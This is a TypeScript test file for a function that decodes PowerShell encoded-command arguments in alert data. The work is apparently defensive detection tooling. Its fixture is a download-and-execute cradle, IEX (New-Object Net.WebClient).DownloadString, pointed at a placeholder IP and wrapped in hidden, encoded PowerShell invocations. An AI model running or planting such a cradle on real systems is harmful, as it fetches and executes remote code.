import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodedCommands } from '../../src/destinations/alert-view/powershell.ts';

const encoded = (command: string) => Buffer.from(command, 'utf16le').toString('base64');
const IEX = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";

describe('PowerShell’s encoded commands', () => {
  it.each([
    '-e',
    '-ec',
    '-en',
    '-enc',
    '-ENC',
    '-EncodedCommand',
    '-encodedcomm',
    '/enc',
    '\u2013enc',
    '\u2014e',
  ])('are decoded behind %s', (name) => {
    expect(decodedCommands(`powershell.exe -nop -w hidden ${name} ${encoded(IEX)}`)).toEqual([IEX]);
    expect(decodedCommands(`pwsh ${name} "${encoded(IEX)}" -x`)).toEqual([IEX]);
    expect(decodedCommands(`pwsh ${name}:${encoded(IEX)}`)).toEqual([IEX]);
  });

  it('are decoded within each other, so deep and no deeper', () => {
    let command = IEX;
    const layers: string[] = [];
    for (let depth = 0; depth < 5; depth++) {
      layers.unshift(command);
      command = `powershell -enc ${encoded(command)}`;
    }
    const found = decodedCommands(command);
    expect(found).toHaveLength(3);
    expect(found[0]?.slice(0, 200)).toBe(layers[0]?.slice(0, 200));
  });

  it('are decoded as far as a row that was cut has them', () => {
    const whole = encoded(IEX);
    for (let length = whole.length - 9; length < whole.length; length++) {
      const [found = ''] = decodedCommands(`powershell -enc ${whole.slice(0, length)}…`);
      expect(IEX.startsWith(found)).toBe(true);
      expect(found.length).toBeGreaterThan(60);
    }
  });

  it.each([
    'powershell -ExecutionPolicy Bypass -File C:\\a.ps1',
    'grep -e abcdefghijkl file',
    'tool -e c29tZSB0ZXh0IGluIFVURi04',
    'powershell -enc',
    'powershell -enc !!!!',
    `powershell -enc ${Buffer.from('漢字漢字漢字漢字', 'utf16le').toString('base64')}`,
  ])('are not seen in %s', (commandLine) => {
    expect(decodedCommands(commandLine)).toEqual([]);
  });

  it('are bounded, and never throw, whatever the command line holds', () => {
    expect(decodedCommands(`-enc ${encoded('a'.repeat(10_000))}`)[0]).toHaveLength(4_096);
    expect(decodedCommands(`-enc ${encoded('dir c:')} `.repeat(50))).toHaveLength(4);
    const part = fc.oneof(
      fc.constantFrom('powershell ', '-enc ', '-e ', ' ', '=', 'QUJDREVGR0g', '\u2013'),
      fc.string({ unit: 'binary' }),
      fc.base64String(),
      fc.string().map(encoded),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
        const found = decodedCommands(parts.join(''));
        expect(found.length).toBeLessThanOrEqual(4);
        for (const command of found) {
          expect(command.length).toBeLessThanOrEqual(4_096);
          expect(command.isWellFormed()).toBe(true);
        }
      }),
    );
  });
});
